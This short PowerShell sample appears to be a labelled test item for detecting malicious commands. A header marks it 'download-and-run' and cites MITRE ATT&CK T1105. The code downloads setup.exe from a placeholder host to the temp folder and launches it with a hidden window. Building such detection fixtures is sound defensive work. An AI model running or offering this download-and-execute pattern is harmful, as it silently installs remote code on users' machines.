# expect: download-and-run | source: MITRE ATT&CK T1105
$p = "$env:TEMP\setup.exe"
Invoke-WebRequest http://files.example.invalid/setup.exe -OutFile $p
Start-Process -FilePath $p -WindowStyle Hidden
